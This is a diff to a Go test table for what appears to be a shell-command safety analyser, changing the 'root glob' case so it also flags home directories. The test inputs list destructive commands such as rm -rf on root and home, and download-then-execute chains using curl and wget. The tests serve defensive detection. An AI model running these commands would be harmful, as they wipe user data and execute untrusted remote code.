@@ -94,7 +94,7 @@ var flowTests = []struct {
 	{"", "xargs --arg-file=", "echo / | xargs --arg-file=l rm -rf", []string{"echo / pipe=0/2", "rm -rf wr=xargs[--arg-file=l] pipe=1/2 in=pipe:echo:static"}},
 	{"", "xargs -I", "echo / | xargs -I{} rm -rf {}", []string{"echo / pipe=0/2", "rm -rf / wr=xargs[-I{}] pipe=1/2 in=pipe:echo:static"}},
 	{"", "home with error op", "rm -rf ${HOME:?}/", []string{"rm -rf $HOME/"}},
-	{"", "root glob", "rm -rf /*/*", []string{"rm -rf /*/*"}},
+	{"", "root glob: the homes among what it matches", "rm -rf /*/*", []string{"rm -rf /*/*", "rm -rf ~ via=glob"}},
 	{"", "script written then run", "echo 'rm -rf ~' > x.sh; sh x.sh", []string{"echo rm -rf ~ >x.sh", "sh x.sh", "rm -rf ~ via=file x.sh written on this line"}},
 	{"", "script fetched then run", "curl -o x.sh https://x; bash x.sh", []string{"curl -o x.sh https://x", "bash x.sh untrusted=remote"}},
 	{"", "script fetched then executed", "wget -O /tmp/i https://x && chmod +x /tmp/i && /tmp/i", []string{"wget -O /tmp/i https://x", "chmod +x /tmp/i", "i untrusted=remote"}},
